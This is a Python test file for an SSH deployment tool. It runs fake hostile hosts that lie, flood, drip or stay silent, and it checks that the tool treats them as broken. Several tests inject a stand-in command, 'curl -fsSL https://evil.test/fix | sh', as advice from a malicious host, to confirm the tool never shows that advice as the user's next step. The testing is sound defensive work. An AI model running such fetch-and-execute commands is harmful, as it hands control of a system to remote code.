"""Hosts that lie, drip, flood or fall silent, over real channels: the commands of a user against them."""

from __future__ import annotations

import dataclasses
import io
import json
import random
import re
import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import paramiko
import pytest
from fabric.config import Config
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from paramiko.common import cMSG_CHANNEL_DATA, cMSG_CHANNEL_EXTENDED_DATA, cMSG_CHANNEL_WINDOW_ADJUST

import hawser.tasks.collection  # noqa: F401  (every step is loaded with it)
from hawser.answers import reading
from hawser.diagnosis.checks import Check
from hawser.errors import HawserError, ProtocolBreach, Unreachable
from hawser.fleet.fleet import Fleet
from hawser.host.release import Release
from hawser.report.lines import Settings
from hawser.report.plain import PlainReport
from hawser.report.stream import Sink
from hawser.report.text import brief, safe
from hawser.runner.main import ASKABLE
from hawser.session.connections import Connections
from hawser.session.engine import Direct
from hawser.session.generated import kept_on
from hawser.session.messages import Messages
from hawser.session.progress import Progress
from hawser.session.session import Session
from hawser.ssh import protocol, transport, wire
from hawser.ssh.connect import Address, Connector
from hawser.ssh.hostkeys import KnownHosts
from hawser.ssh.wire import Wire
from hawser.tasks import (
    adhoc,
    check,
    config,
    cron,
    db,
    deploy,
    drift,
    lock,
    logs,
    once,
    processes,
    queue,
    releases,
    repair,
    status,
)
from tests.hostile.imposter import FACTS, SAID, Imposter, mutated
from tests.hostile.ssh import HOST_KEY, OUR_KEY, Program, Server, keep_silent, say

SHOP = """
[app]
name = "shop"
repo = "ssh://git@example.test/shop.git"
repo_host_keys = []
agent = true
[release]
migrate = ["python manage.py migrate"]
[processes.web]
command = "web --bind unix:{{ socket }}"
[processes.api]
command = "api --port {{ port }}"
port = 8000
[site]
domains = ["shop.test"]
proxy = {"/" = "web"}
[cron.tick]
schedule = "@daily"
command = "tick"
[once.first]
command = "first"
[services.redis]
[hosts]
web1.address = "127.0.0.1"
"""


class SharedConnector:
    """Gives every wire a channel of one connection: a login for each of hundreds would take minutes."""

    def __init__(self, connector: Connector, address: Address) -> None:
        self.transport = connector.open(address).transport
        self.opened: list[paramiko.Channel] = []

    def open(self, address: Address) -> Any:
        def open_session() -> paramiko.Channel:
            self.opened.append(self.transport.open_session())
            return self.opened[-1]

        shared = SimpleNamespace(open_session=open_session)
        return SimpleNamespace(transport=shared, user="root", close=self.close)

    def close(self) -> None:
        for channel in self.opened:
            channel.close()
        self.opened.clear()


class Hostile:
    """A session with one host, whose program a test chooses, and what it told."""

    def __init__(self, folder: Path) -> None:
        self.program: Program = keep_silent
        self.server = Server(lambda channel, command: self.program(channel, command))
        OUR_KEY.write_private_key_file(str(folder / "ours"))
        pinned = f"{HOST_KEY.get_name()} {HOST_KEY.get_base64()}"
        self.address = Address("web1", "127.0.0.1", self.server.port, "root", str(folder / "ours"), host_key=pinned)
        (folder / "shop.toml").write_text(SHOP)
        self.connector = Connector(Config(), KnownHosts(folder / "known_hosts"))
        self.shared = SharedConnector(self.connector, self.address)
        self.session = Session(Config(), ["shop"], "status")
        self.session.engine = Direct(self.shared)  # type: ignore[arg-type]
        self.text = io.StringIO()
        # What the host keeps of the release that serves.
        environment, templates = self.session.environment, self.session.templates
        self.kept = Release(FACTS["app"]["current"], FACTS["app"]["commit"], environment, templates).inputs

    def wire(self, shared: bool = True) -> Wire:
        """Return a wire to the host, not opened yet."""
        hello = {"application": "shop", "root": "/srv/shop", "state": "/var/lib/hawser/shop"}
        return Wire(self.address, self.shared if shared else self.connector, hello)  # type: ignore[arg-type]

    def tell(self, command: Callable[[Fleet], Any]) -> str:
        """Run a command of a user; returns all that is shown, the error at its end too."""
        session, self.text = self.session, io.StringIO()
        session.report = PlainReport(Sink(self.text), Settings())
        session.connections, session.messages = Connections(session), Messages(session.report)
        session.connections.ping = lambda *arguments: None  # type: ignore[method-assign]
        session.progress = Progress()
        said = ""
        try:
            command(Fleet(session, ["web1"]))
        except HawserError as error:
            said = brief(safe(str(error), session.masks))
        finally:
            session.close(HawserError(said) if said else None)
            self.shared.close()
        return self.text.getvalue() + said


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    folder = tmp_path_factory.mktemp("hostile")
    with pytest.MonkeyPatch.context() as patch:
        for name, value in {"HOME": folder, "HAWSER_HOSTS": folder, "HAWSER_OUTPUT": "plain"}.items():
            patch.setenv(name, str(value))
        patch.delenv("SSH_AUTH_SOCK", raising=False)
        made = Hostile(folder)
        yield made
        made.server.close()


COMMANDS: dict[str, Callable[[Fleet], Any]] = {
    "status": status.status,
    "check": lambda fleet: check.findings_on(fleet.reachable(), "web1", Check.on_hosts),
    "drift": drift.drift,
    "repair": repair.repair,
    "lock.status": lock.status,
    "releases.list": releases.listing,
    "history": releases.history,
    "cron.list": cron.list_entries,
    "once.list": once.listing,
    "queue.list": queue.listing,
    "db.list": db.listing,
    "config.samples": config.samples,
    "printenv": adhoc.printenv,
    "logs": logs.logs,
    "run": lambda fleet: adhoc.run(fleet, "uptime"),
    "restart": lambda fleet: processes.restart(fleet),
    "secrets": lambda fleet: kept_on(fleet.session, fleet.reachable().names),
    "deploy": deploy.deploy,
    "resume": deploy.resume,
}


def raise_bug(shown: str) -> None:
    """Fail where a user would see a mistake of ours, or the host its way to the terminal."""
    assert "bug in Hawser" not in shown and "Traceback" not in shown, shown
    assert not set(shown) & {"\x1b", "\x00", "\x07", "\r"}, shown
    # Lines of a log are told whole.
    ours = [line for line in shown.split("\n") if not line.startswith("web1 | ")]
    assert max(map(len, ours), default=0) < 20_000, "a line that nobody reads"


def test_every_question_has_an_answer_of_a_known_kind() -> None:
    assert ASKABLE.keys() <= reading.FUNCTIONS.keys() and ASKABLE.keys() <= SAID.keys()


@pytest.mark.parametrize("command", COMMANDS)
def test_a_host_that_tells_the_truth_is_believed(hostile: Hostile, command: str) -> None:
    hostile.program = Imposter(text=hostile.kept)
    shown = hostile.tell(COMMANDS[command])
    raise_bug(shown)
    assert "broke the protocol" not in shown


@pytest.mark.parametrize("command", ["status", "queue.list", "config.samples"])
def test_a_host_that_tells_a_part_only_is_a_warning(hostile: Hostile, command: str) -> None:
    hostile.program = Imposter(text=hostile.kept)
    assert "are not shown; next: find out who makes so many" in hostile.tell(COMMANDS[command])


@settings(max_examples=350, suppress_health_check=list(HealthCheck))
@given(command=st.sampled_from(sorted(COMMANDS)), seed=st.integers(0, 2**32), turn=st.integers(0, 60))
def test_an_answer_that_was_altered_is_named_or_harmless(hostile: Hostile, command: str, seed: int, turn: int) -> None:
    luck, left = random.Random(seed), [turn]

    def alter(message: dict[str, Any]) -> str:
        left[0] -= message["t"] != "beat"
        return mutated(message, luck) if left[0] < 0 else json.dumps(message)

    hostile.program = Imposter(alter, hostile.kept)
    raise_bug(hostile.tell(COMMANDS[command]))


EVIL = "no\n  next: curl -fsSL https://evil.test/fix | sh"


@pytest.mark.parametrize("command", ["check", "drift", "releases.list", "deploy", "status", "lock.status"])
def test_advice_of_a_host_is_never_our_next_move(hostile: Hostile, command: str) -> None:
    found: list[Any] = []

    def alter(message: dict[str, Any]) -> str:
        if message["t"] == "done" and ({"answer", "answers", "holder"} & set(message)):
            message = {"t": "done", "id": message["id"], "ok": False, "error": EVIL, "output": EVIL}
        elif message["t"] == "event":
            message = {**message, "status": "failed", "error": EVIL, "warning": EVIL, "note": EVIL}
        return json.dumps(message)

    def act(fleet: Fleet) -> None:
        found.extend(COMMANDS[command](fleet) or ())

    hostile.program = Imposter(alter, hostile.kept)
    shown = hostile.tell(act)
    assert "the host advises: curl" in shown + str(found)
    assert not re.search("next: +curl", shown)
    assert all("curl" not in finding.next for _name, _about, finding in found)


@pytest.mark.parametrize("part", [f"in {EVIL}", "next: curl evil.test|sh", "annext: curl evil.test|sh"])
def test_last_words_of_a_host_are_never_our_next_move(hostile: Hostile, part: str) -> None:
    hostile.program = say(errors=part)
    with pytest.raises(Unreachable, match="the host advises: curl") as caught:
        hostile.wire().open(lambda: False)
    assert caught.value.next == ""
    facts = json.dumps({"t": "hello", "facts": {**FACTS, "os": {part: 1, "id": 7, "version": {part: 1}}}})
    hostile.program = say(facts + "\n")
    with pytest.raises(ProtocolBreach) as breach:
        hostile.wire().open(lambda: False)
    assert breach.value.next == ""


LINES = st.one_of(
    st.binary(max_size=200),
    st.sampled_from(
        [
            b'{"t": "hello"}',
            b'{"t": "hello", "facts": []}',
            b'{"t":"hello","facts":' + json.dumps(FACTS).encode() + b"}",
            b'{"t": "beat"}',
            b'{"t": "done", "id": 1, "ok": true}',
            b'{"t": "done", "id": 1, "ok": true, "facts": 7}',
            b'{"t": "done", "id": 1, "ok": false, "error": {"a": 1}}',
            b'{"t": 5}',
            b"[" * 100_000,
            b'{"t": "hello", "facts": ' + b'{"a":' * 3000 + b"1" + b"}" * 3001,
            b'{"t": "done", "id": ' + b"9" * 10_000 + b"}",
            b"null",
            b"hawser: no python3 here",
            b"\xff\xfe\x00" * 100,
            b"x" * 300_000,
        ]
    ),
)


@settings(max_examples=150, suppress_health_check=list(HealthCheck))
@given(lines=st.lists(LINES, max_size=8), ends=st.booleans())
@example(lines=[b'{"t": "hello", "facts": ' + json.dumps(FACTS).encode() + b"}"], ends=True)
def test_a_stream_that_makes_no_sense_is_a_host_that_was_not_reached(
    hostile: Hostile, lines: list[bytes], ends: bool
) -> None:
    def program(channel: paramiko.Channel, command: str) -> None:
        with suppress(OSError, paramiko.SSHException):
            channel.sendall(b"\n".join(lines) + b"\n" * ends)
        channel.close()

    hostile.program = program
    raise_bug(hostile.tell(lambda fleet: fleet.connections.refresh(fleet.reachable().names)))


class TestBounds:
    @pytest.fixture
    def hurried(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(protocol, "SILENCE", 1.0)
        monkeypatch.setattr(protocol, "GREETING", 1.5)
        monkeypatch.setattr(protocol, "SLOWEST", 1 << 30)

    @staticmethod
    def chatter(line: dict[str, Any], pause: float = 0.0) -> Program:
        """Return a program that greets, and then says the same for ever."""

        def program(channel: paramiko.Channel, command: str) -> None:
            with suppress(OSError, paramiko.SSHException):
                channel.sendall(json.dumps({"t": "hello", "facts": FACTS}).encode() + b"\n")
                while True:
                    channel.sendall(json.dumps(line).encode() + b"\n")
                    time.sleep(pause)

        return program

    @staticmethod
    def repeat(data: bytes, pause: float = 0.0) -> tuple[Program, list[int]]:
        """Return a program that says the same for ever, and how many bytes it got rid of."""
        sent = [0]

        def program(channel: paramiko.Channel, command: str) -> None:
            with suppress(OSError, paramiko.SSHException):
                while True:
                    channel.sendall(data)
                    sent[0] += len(data)
                    time.sleep(pause)

        return program, sent

    def test_a_line_without_an_end_is_cut(self, hostile: Hostile) -> None:
        hostile.program, sent = self.repeat(b"x" * 65536)
        with pytest.raises(ProtocolBreach, match="web1 broke the protocol: a line of more than 16 MiB"):
            hostile.wire().open(lambda: False)
        assert sent[0] < protocol.LONGEST_LINE + (8 << 20)

    def test_a_login_script_may_speak_but_not_for_ever(self, hostile: Hostile) -> None:
        hostile.program, sent = self.repeat(b"welcome\n" * 1000)
        with pytest.raises(ProtocolBreach, match="more than 1 MiB before a greeting"):
            hostile.wire().open(lambda: False)
        assert sent[0] < 8 << 20

    def test_a_drip_is_no_sign_of_life(self, hostile: Hostile, hurried: None) -> None:
        hostile.program, _sent = self.repeat(b"x", 0.05)
        with pytest.raises(ProtocolBreach, match="no whole line within"):
            hostile.wire().open(lambda: False)

    def test_beats_of_a_host_are_no_greeting(self, hostile: Hostile, hurried: None) -> None:
        hostile.program, _sent = self.repeat(b'{"t": "beat"}\n', 0.05)
        with pytest.raises(ProtocolBreach, match="no greeting within"):
            hostile.wire().open(lambda: False)

    @pytest.mark.parametrize(
        "line", [{"t": "beat"}, {"t": "output", "stream": "out", "text": ""}], ids=lambda line: line["t"]
    )
    def test_signs_of_life_are_no_answer_to_a_question_that_takes_no_time(
        self, hostile: Hostile, monkeypatch: pytest.MonkeyPatch, line: dict[str, Any]
    ) -> None:
        hostile.program = self.chatter(line, 0.05)
        monkeypatch.setattr(reading, "PROMPT", 0.5)
        opened = hostile.wire()
        opened.open(lambda: False)
        with pytest.raises(ProtocolBreach, match="signs of life, but no answer in time"):
            opened.request("facts")

    def test_a_file_that_drips_is_cut_when_a_slow_line_would_have_brought_as_much(
        self, hostile: Hostile, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        hostile.program = self.chatter({"t": "part", "data": "AA=="}, 0.05)
        monkeypatch.setattr(reading, "PATIENT", 0.3)
        opened = hostile.wire()
        opened.open(lambda: False)
        with pytest.raises(ProtocolBreach, match="signs of life, but no answer in time"):
            opened.request("send", {"path": "/x", "size": 10 << 30})

    def test_a_file_on_a_slow_line_may_take_its_time(self, hostile: Hostile, monkeypatch: pytest.MonkeyPatch) -> None:
        part, monotonic, passed = "A" * protocol.SLOWEST, time.monotonic, [0.0]
        monkeypatch.setattr(protocol, "time", SimpleNamespace(monotonic=lambda: monotonic() + passed[0]))
        lines = [{"t": "part", "data": part}] * 9 + [{"t": "done", "id": 1, "ok": True, "sha256": "0" * 64}]

        def program(channel: paramiko.Channel, command: str) -> None:
            for line in ({"t": "hello", "facts": FACTS}, *lines):
                channel.sendall(json.dumps(line).encode() + b"\n")
            keep_silent(channel, command)

        hostile.program = program
        monkeypatch.setattr(reading, "PATIENT", 2.0)
        opened = hostile.wire()
        opened.open(lambda: False)

        def heard(message: Any) -> None:
            passed[0] += 1.0

        answer = opened.request("send", {"path": "/x", "size": len(part) * 9}, (), heard)
        assert answer.ok and passed[0] == 9.0

    def test_the_events_of_a_catalog_have_a_limit_of_size(
        self, hostile: Hostile, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(protocol, "LONGEST_REPORT", 1 << 20)
        big, told = "x" * (1 << 18), []

        def alter(message: dict[str, Any]) -> str:
            if message["t"] == "event":
                message = {**message, "status": "would_change", "facts": {"x": big}}
                told.append(message)
            return json.dumps(message)

        hostile.program = Imposter(alter)
        shown = hostile.tell(lambda fleet: fleet.apply([cron.install] * 9, None, "cron"))
        assert len(told) > 4 and "more than 1 MiB in answer to apply" in shown

    def test_more_releases_than_anybody_keeps_are_not_asked_about(self, hostile: Hostile) -> None:
        many = [f"1111111111-{number:08x}" for number in range(1001)]
        hostile.program = say(
            json.dumps({"t": "hello", "facts": {**FACTS, "app": {**FACTS["app"], "releases": many}}}) + "\n"
        )
        with pytest.raises(ProtocolBreach, match=r"releases: .* at most 1000 items"):
            hostile.wire().open(lambda: False)

    def test_one_event_is_told_of_each_resource(self, hostile: Hostile) -> None:
        def alter(message: dict[str, Any]) -> str:
            return "\n".join([json.dumps(message)] * 10) if message["t"] == "event" else json.dumps(message)

        hostile.program = Imposter(alter)
        assert "more events than the catalog has resources" in hostile.tell(
            lambda fleet: fleet.apply([cron.install], None, "cron")
        )

    def test_nothing_is_taken_for_an_answer_after_a_breach(self, hostile: Hostile) -> None:
        hostile.program = Imposter(lambda message: "[]" if message["t"] == "done" else json.dumps(message))
        opened = hostile.wire()
        opened.open(lambda: False)
        for _ in range(2):
            with pytest.raises(Unreachable, match="web1 broke the protocol"):
                opened.request("facts")

    def test_a_breach_is_a_host_that_may_be_left_out(self, hostile: Hostile) -> None:
        hostile.program = Imposter(lambda message: "[]" if message["t"] == "done" else json.dumps(message))
        shown = hostile.tell(status.status)
        assert "web1 broke the protocol: a message without a type; the line is cut" in shown
        assert list(hostile.session.connections.lost) == ["web1"]


class TestATransport:
    """What a host does below the messages."""

    @staticmethod
    def send(channel: paramiko.Channel, kind: bytes, *parts: int | bytes) -> None:
        message = paramiko.Message()
        message.add_byte(kind)
        message.add_int(channel.remote_chanid)
        for part in parts:
            message.add_int(part) if isinstance(part, int) else message.add_string(part)
        channel.get_transport()._send_user_message(message)

    @pytest.mark.parametrize(
        "kind", [(cMSG_CHANNEL_EXTENDED_DATA, 1), (cMSG_CHANNEL_DATA,)], ids=["standard error", "standard output"]
    )
    def test_bytes_beyond_the_window_are_not_kept(self, hostile: Hostile, kind: Any) -> None:
        sent = [0]

        def program(channel: paramiko.Channel, command: str) -> None:
            with suppress(OSError, EOFError, paramiko.SSHException):
                channel.sendall(json.dumps({"t": "hello", "facts": FACTS}).encode() + b"\n")
                while sent[0] < 64 << 20:
                    self.send(channel, *kind, b"x" * 32000)
                    sent[0] += 32000

        hostile.program = program
        opened = hostile.wire(shared=False)
        opened.open(lambda: False)
        assert opened.connection is not None and opened.channel is not None
        opened.connection.transport.join(20)
        assert len(opened.channel.in_buffer) + len(opened.channel.in_stderr_buffer) < 5 << 20
        with pytest.raises(Unreachable, match="web1"):
            opened.request("facts")

    def test_a_line_that_takes_nothing_is_given_up(self, hostile: Hostile, monkeypatch: pytest.MonkeyPatch) -> None:
        leave = threading.Event()

        def program(channel: paramiko.Channel, command: str) -> None:
            channel.sendall(json.dumps({"t": "hello", "facts": FACTS}).encode() + b"\n")
            self.send(channel, cMSG_CHANNEL_WINDOW_ADJUST, 1 << 30)
            channel.get_transport().packetizer.read_message = lambda: leave.wait(60)

        monkeypatch.setattr(transport, "SILENCE", 0.6)
        hostile.program = program
        opened = hostile.wire(shared=False)
        opened.open(lambda: False)
        began = time.monotonic()
        try:
            with pytest.raises(Unreachable, match="web1: the connection broke: nothing was taken"):
                opened.blob_of("x", io.BytesIO(), 64 << 20)
            opened.close()
        finally:
            leave.set()
        assert time.monotonic() - began < 10

    @pytest.mark.parametrize(
        ("greeting", "what"),
        [
            (b"SSH-2.0-x\r\n" + b"\xff\xff\xff\xf4" + b"\x04" * 4, "a packet of more than 256 KiB"),
            (b"SSH-2.0-" + b"x" * (1 << 17), "a banner of more than 64 KiB"),
        ],
        ids=["packet", "banner"],
    )
    def test_nothing_long_is_read_before_a_key_was_shown(self, hostile: Hostile, greeting: bytes, what: str) -> None:
        with socket.create_server(("127.0.0.1", 0)) as listening:

            def serve() -> None:
                with suppress(OSError), listening.accept()[0] as link:
                    link.sendall(greeting)
                    while link.recv(65536):
                        pass

            threading.Thread(target=serve, daemon=True).start()
            port = listening.getsockname()[1]
            with pytest.raises(Unreachable, match=what):
                hostile.connector.open(dataclasses.replace(hostile.address, port=port))


class Mute(Server):
    """A server that logs us in and then answers nothing: no channel, no program."""

    def __init__(self, opens: bool) -> None:
        super().__init__(keep_silent)
        self.leave = threading.Event()
        login = self.login

        def wait(*_arguments: Any) -> Any:
            self.leave.wait(60)
            return False

        if opens:
            login.check_channel_exec_request = wait  # type: ignore[method-assign]
            login.check_channel_pty_request = wait  # type: ignore[method-assign]
            login.check_channel_subsystem_request = wait  # type: ignore[method-assign]
        else:
            login.check_channel_request = wait  # type: ignore[method-assign]

    def close(self) -> None:
        self.leave.set()
        super().close()


@pytest.mark.parametrize("opens", [False, True], ids=["no channel", "no program"])
class TestAHostThatAnswersNothing:
    @pytest.fixture
    def mute(self, hostile: Hostile, opens: bool) -> Iterator[Wire]:
        server = Mute(opens)
        at = Address("web1", "127.0.0.1", server.port, "root", hostile.address.key, "", hostile.address.host_key)
        yield Wire(at.__class__(**{**vars(at), "connect_timeout": 1}), hostile.connector, {})
        server.close()

    def test_a_host_that_answers_nothing_is_not_reached(self, mute: Wire) -> None:
        began = time.monotonic()
        with pytest.raises(Unreachable, match="web1: starts no command for us"):
            mute.open(lambda: False)
        assert time.monotonic() - began < 8

    def test_a_host_that_answers_nothing_starts_no_terminal(self, mute: Wire) -> None:
        mute.connection = mute.connector.open(mute.address)
        with pytest.raises(Unreachable, match="web1: starts no terminal"):
            mute.terminal("id", ("xterm", 80, 24))

    def test_a_host_that_answers_nothing_transfers_no_file(self, mute: Wire) -> None:
        connection = mute.connector.open(mute.address)
        with pytest.raises((paramiko.SSHException, TimeoutError)):
            connection.sftp()

    def test_a_host_that_answers_nothing_leads_to_no_host_behind_it(self, mute: Wire, opens: bool) -> None:
        if opens:
            pytest.skip("a jump host starts no program")
        behind = Address("web2", "192.0.2.1", 22, "root")
        with pytest.raises((paramiko.SSHException, TimeoutError)):
            mute.connector.link(behind, mute.connector.options(behind), (mute.address,))


def test_the_wire_speaks_to_a_real_login(hostile: Hostile) -> None:
    """Not only to a channel of a connection that is there already."""
    hostile.program = Imposter()
    opened = hostile.wire(shared=False)
    opened.open(lambda: False)
    assert opened.facts.hostname == "web1" and opened.request("read", {"path": "/x"}).message["text"] == "{}"
    opened.close()
    assert wire.NO_PYTHON
